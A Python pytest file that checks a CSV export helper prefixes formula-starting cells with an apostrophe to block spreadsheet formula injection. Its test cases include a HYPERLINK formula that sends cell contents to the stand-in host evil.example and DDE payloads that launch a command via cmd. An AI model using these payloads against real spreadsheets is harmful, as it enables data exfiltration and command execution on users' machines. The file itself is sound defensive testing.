"""CSV formula neutralisation: every CSV the product writes goes through `agency.exports.csv_line_writer`,
which makes text that a spreadsheet program would run as a formula inert."""

from __future__ import annotations

import csv
import io

import pytest

from agency.exports import csv_line_writer, neutralise_cell


@pytest.mark.parametrize(
    "cell,expected",
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"点我")', '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # plain numbers stay numbers, signed or not
        ("-2", "-2"), ("+3.5", "+3.5"), ("-1e5", "-1e5"), ("0.667", "0.667"),
        # ordinary text and non-text values are untouched
        ("亲，加微信最好", "亲，加微信最好"), ("a=b", "a=b"), ("", ""), (12, 12), (-3.5, -3.5), (None, None),
    ],
)
def test_cells_that_start_a_formula_get_an_apostrophe(cell, expected):
    assert neutralise_cell(cell) == expected


def test_the_line_writer_neutralises_every_cell_and_keeps_the_csv_valid():
    line = csv_line_writer().writerow(["=1+2", "ok", -4, '@A1,"quoted"'])
    assert list(csv.reader(io.StringIO(line))) == [["'=1+2", "ok", "-4", "'@A1,\"quoted\""]]
